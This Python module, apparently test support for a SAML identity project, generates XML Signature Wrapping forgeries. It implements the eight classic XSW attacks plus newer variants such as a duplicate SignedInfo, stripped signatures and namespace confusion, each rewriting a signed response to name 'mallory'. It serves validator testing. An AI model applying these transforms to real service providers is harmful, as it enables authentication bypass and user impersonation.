"""Signature wrapping: the eight ways of Somorovsky and others (USENIX Security 2012), and some of today's.

Each takes a good signed response and returns one that shows another name to a reader who looks past the signature.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from identity.saml.idp import DS, SAML

SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
EVIL = "mallory"
Element = etree._Element


def _evil(element: Element, new_id: str = "_evil") -> Element:
    """Return a copy with another name and ID, without a signature."""
    copy = deepcopy(element)
    for signature in list(copy.iter(DS + "Signature")):
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    copy.set("ID", new_id)
    for name in copy.iter(SAML + "NameID"):
        name.text = EVIL
    return copy


def _signature(element: Element) -> Element:
    found = element.find(DS + "Signature")
    assert found is not None
    return found


def _assertion(root: Element) -> Element:
    found = root.find(SAML + "Assertion")
    assert found is not None
    return found


def _bare(element: Element) -> Element:
    copy = deepcopy(element)
    copy.remove(_signature(copy))
    return copy


def xsw1(root: Element) -> Element:
    """The evil response around the signature, which holds the good response."""
    evil, signature = _evil(root), deepcopy(_signature(root))
    signature.append(_bare(root))
    evil.insert(1, signature)
    return evil


def xsw2(root: Element) -> Element:
    """The evil response with the good one before the signature."""
    evil = _evil(root)
    evil.insert(1, _bare(root))
    evil.insert(2, deepcopy(_signature(root)))
    return evil


def xsw3(root: Element) -> Element:
    """The evil assertion before the good one."""
    assertion = _assertion(root)
    root.insert(root.index(assertion), _evil(assertion))
    return root


def xsw4(root: Element) -> Element:
    """The evil assertion around the good one."""
    assertion = _assertion(root)
    evil = _evil(assertion)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def xsw5(root: Element) -> Element:
    """The signed assertion made evil, with the good one, unsigned, at the end."""
    assertion = _assertion(root)
    good = _bare(assertion)
    for name in assertion.iter(SAML + "NameID"):
        name.text = EVIL
    assertion.set("ID", "_evil")
    root.append(good)
    return root


def xsw6(root: Element) -> Element:
    """The good assertion in the signature of the evil one."""
    assertion = _assertion(root)
    good = _bare(assertion)
    for name in assertion.iter(SAML + "NameID"):
        name.text = EVIL
    assertion.set("ID", "_evil")
    _signature(assertion).append(good)
    return root


def xsw7(root: Element) -> Element:
    """The evil assertion in Extensions."""
    extensions = etree.Element(SAMLP + "Extensions")
    extensions.append(_evil(_assertion(root)))
    root.insert(1, extensions)
    return root


def xsw8(root: Element) -> Element:
    """The good assertion in an Object of the signature of the evil one."""
    assertion = _assertion(root)
    good = _bare(assertion)
    for name in assertion.iter(SAML + "NameID"):
        name.text = EVIL
    assertion.set("ID", "_evil")
    etree.SubElement(_signature(assertion), DS + "Object").append(good)
    return root


def same_id(root: Element) -> Element:
    """The evil assertion with the ID of the good one, first."""
    assertion = _assertion(root)
    root.insert(root.index(assertion), _evil(assertion, str(assertion.get("ID"))))
    return root


def two_signed(root: Element) -> Element:
    """The good assertion twice."""
    assertion = deepcopy(_assertion(root))
    assertion.set("ID", "_again")
    root.append(assertion)
    return root


def no_reference(root: Element) -> Element:
    """The evil assertion with a signature that covers nothing."""
    assertion = _assertion(root)
    signed_info = _signature(assertion).find(DS + "SignedInfo")
    assert signed_info is not None
    for reference in signed_info.findall(DS + "Reference"):
        signed_info.remove(reference)
    next(assertion.iter(SAML + "NameID")).text = EVIL
    return root


def whole_document(root: Element) -> Element:
    """A reference to the whole document instead of an element."""
    for reference in root.iter(DS + "Reference"):
        reference.set("URI", "")
    return root


def two_references(root: Element) -> Element:
    """A second reference beside the first."""
    reference = next(root.iter(DS + "Reference"))
    parent = reference.getparent()
    assert parent is not None
    parent.append(deepcopy(reference))
    return root


def two_signed_infos(root: Element) -> Element:
    """A second SignedInfo before the signed one, as in CVE-2024-45409 and its kin."""
    signature = next(root.iter(DS + "Signature"))
    evil = deepcopy(signature[0])
    next(evil.iter(DS + "DigestValue")).text = "AAAA"
    signature.insert(0, evil)
    return root


def stripped(root: Element) -> Element:
    """No signature at all."""
    for signature in list(root.iter(DS + "Signature")):
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    return root


def filtered(root: Element) -> Element:
    """A transform that selects something else."""
    transform = next(root.iter(DS + "Transform"))
    transform.set("Algorithm", "http://www.w3.org/TR/1999/REC-xpath-19991116")
    return root


def foreign_prefix(root: Element) -> Element:
    """An assertion of another namespace that a reader by local names takes for the first one."""
    evil = etree.fromstring(etree.tostring(_evil(_assertion(root))).replace(b"2.0:assertion", b"9.9:assertion"))
    root.insert(1, evil)
    return root


WAYS: dict[str, Callable[[Element], Element]] = {
    way.__name__: way
    for way in (
        *(xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8),
        *(same_id, two_signed, no_reference, whole_document, two_references, two_signed_infos),
        *(stripped, filtered, foreign_prefix),
    )
}
OF_RESPONSES = ("xsw1", "xsw2")


def wrapped(text: str, way: str) -> str:
    """Return a signed response, wrapped."""
    return etree.tostring(WAYS[way](etree.fromstring(text)), encoding="unicode")
